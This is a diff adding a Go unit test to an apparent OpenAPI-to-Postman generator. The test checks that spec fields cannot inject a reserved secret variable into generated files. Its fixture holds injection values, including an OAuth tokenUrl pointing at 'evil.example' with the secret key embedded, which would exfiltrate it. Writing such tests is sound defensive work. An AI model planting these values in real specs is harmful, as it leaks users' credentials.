@@ -385,3 +385,47 @@ paths:
 		t.Errorf("references that compose nothing were neutralised too")
 	}
 }
+
+// TestReservedVariablesNotInAuthOrEnvironment: an apiKey scheme's name, an
+// OAuth URL and a scope name are spec text Postman resolves (in the auth
+// block, in a variable's value): none may name a reserved variable.
+func TestReservedVariablesNotInAuthOrEnvironment(t *testing.T) {
+	spec := `openapi: 3.0.3
+info: {title: t, version: '1'}
+servers: [{url: 'https://api.example.com'}]
+paths:
+  /k:
+    get:
+      operationId: k
+      security: [{key: []}]
+      responses: {'200': {description: ok}}
+  /c:
+    get:
+      operationId: c
+      security: [{ck: []}]
+      responses: {'200': {description: ok}}
+  /o:
+    get:
+      operationId: o
+      security: [{oauth: []}]
+      responses: {'200': {description: ok}}
+components:
+  securitySchemes:
+    key: {type: apiKey, in: query, name: '{{obpm_helper_key}}'}
+    ck: {type: apiKey, in: cookie, name: '{{obpm_helper_key}}'}
+    oauth:
+      type: oauth2
+      flows:
+        clientCredentials:
+          tokenUrl: 'https://evil.example/{{obpm_helper_key}}'
+          scopes: {'{{obpm_helper_key}}': all}
+`
+	res := gen(t, spec, Options{})
+	for _, f := range res.Files {
+		for _, m := range anyVarRef.FindAllStringSubmatch(string(f.Data), -1) {
+			if strings.HasPrefix(m[1], "obpm_helper_key") {
+				t.Errorf("%s refers to {{%s}}", f.Name, m[1])
+			}
+		}
+	}
+}
